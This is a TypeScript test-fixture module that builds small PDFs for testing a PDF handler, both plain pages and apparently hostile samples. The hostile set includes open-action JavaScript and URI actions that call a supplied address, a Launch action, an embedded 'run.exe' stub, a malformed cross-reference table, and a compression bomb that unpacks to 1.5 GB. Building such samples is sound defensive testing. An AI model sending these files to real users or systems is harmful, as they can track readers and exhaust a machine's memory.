// PDFs for the tests of looking at them: honest ones, and what somebody could send to do harm. All are small, but for what they unpack to.
import { constants, deflateRawSync } from 'node:zlib';

type Content = string | Buffer;

/** A PDF of these objects, numbered from 1; the first is the catalog. `trailer`: more entries of it. */
export function pdfOf(objects: readonly Content[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n', 'latin1')];
  let length = parts[0]!.length;
  const put = (part: Buffer): void => void (length += parts[parts.push(part) - 1]!.length);
  const places = objects.map((object, index) => {
    const at = length;
    put(
      Buffer.concat([
        Buffer.from(`${index + 1} 0 obj\n`),
        Buffer.from(object as string, 'latin1'),
        Buffer.from('\nendobj\n'),
      ]),
    );
    return at;
  });
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const start = length;
  put(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}`));
  put(Buffer.from(`trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}

export function streamOf(content: Content, more = ''): Buffer {
  const data = Buffer.from(content as string, 'latin1');
  return Buffer.concat([Buffer.from(`<<${more}/Length ${data.length}>>stream\n`), data, Buffer.from('\nendstream')]);
}

const CATALOG = '<</Type/Catalog/Pages 2 0 R>>';
const HELVETICA = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';
const BOX = '/MediaBox[0 0 300 200]';
const page = (contents: number, more = BOX): string =>
  `<</Type/Page/Parent 2 0 R${more}/Contents ${contents} 0 R/Resources<</Font<</F1 3 0 R>>>>>>`;
/** A black patch in the lower left corner, 100 by 50, and a line of text above it. */
const drawing = (line: string): string => `0 g 0 0 100 50 re f BT /F1 18 Tf 20 150 Td (${line}) Tj ET`;

/** Pages of 300 by 200, one line on each. */
export function pdfOfPages(lines: readonly string[]): Buffer {
  const kids = lines.map((_line, index) => `${4 + index * 2} 0 R`).join(' ');
  const pages = lines.flatMap((line, index) => [page(5 + index * 2), streamOf(drawing(line))]);
  return pdfOf([CATALOG, `<</Type/Pages/Kids[${kids}]/Count ${lines.length}>>`, HELVETICA, ...pages]);
}

/** One page; `catalog`, `leaf`: more entries of each; `more`: objects from number 6 on. */
function onePage({
  catalog = '',
  leaf = BOX,
  contents = streamOf(drawing('Court letter')) as Content,
  more = [] as Content[],
  trailer = '',
}): Buffer {
  const root = `<</Type/Catalog/Pages 2 0 R${catalog}>>`;
  return pdfOf([root, '<</Type/Pages/Kids[4 0 R]/Count 1>>', HELVETICA, page(5, leaf), contents, ...more], trailer);
}

/** As many zeros as wanted, packed a thousandfold, without ever being in memory here. */
export function manyZeros(megabytes: number): Buffer {
  const flush = deflateRawSync(Buffer.alloc(1 << 20, 0x20), { finishFlush: constants.Z_FULL_FLUSH });
  const end = Buffer.from([1, 0, 0, 0xff, 0xff, 0, 0, 0, 1]);
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array<Buffer>(megabytes).fill(flush), end]);
}

const callingOut = (address: string) => ({
  script: onePage({
    catalog: '/OpenAction 6 0 R/AA<</WC 6 0 R>>',
    more: [
      `<</S/JavaScript/JS(app.launchURL\\("http://${address}/script"\\); this.submitForm\\("http://${address}/form"\\);)>>`,
    ],
  }),
  links: onePage({
    catalog: `/OpenAction<</S/URI/URI(http://${address}/uri)>>`,
    leaf: `${BOX}/AA<</O<</S/Launch/F(/bin/true)>>>>/Annots[6 0 R]`,
    more: [`<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(http://${address}/link)>>>>`],
  }),
  elsewhere: onePage({
    contents: streamOf('', `/F<</FS/URL/F(http://${address}/content)>>`),
  }),
  embedded: onePage({
    catalog: '/Names<</EmbeddedFiles<</Names[(run.exe) 6 0 R]>>>>',
    more: ['<</Type/Filespec/F(run.exe)/EF<</F 7 0 R>>>>', streamOf('MZ', '/Type/EmbeddedFile')],
  }),
});

/** What somebody could send. `address`: where it would like to call. */
export const hostilePdfs = (address: string) => ({
  ...callingOut(address),
  brokenTable: Buffer.from(
    onePage({})
      .toString('latin1')
      .replace(/startxref\n\d+/, 'startxref\n999999'),
    'latin1',
  ),
  noPages: pdfOf([CATALOG, '<</Type/Pages/Kids[]/Count 0>>']),
  nothing: Buffer.from('%PDF-1.7\nthere is nothing in here\n%%EOF\n'),
  manyPages: pdfOfPages(Array<string>(10_000).fill('One of many')),
  hugePage: onePage({ leaf: '/MediaBox[0 0 1000000000 500000000]' }),
  locked: onePage({
    more: [`<</Filter/Standard/V 1/R 2/P -4/O<${'5a'.repeat(32)}>/U<${'a5'.repeat(32)}>>>`],
    trailer: `/Encrypt 6 0 R/ID[<${'01'.repeat(16)}><${'01'.repeat(16)}>]`,
  }),
  /** Its one page unpacks to 1.5 GB of spaces. */
  bomb: onePage({ contents: streamOf(manyZeros(1_500), '/Filter/FlateDecode') }),
});
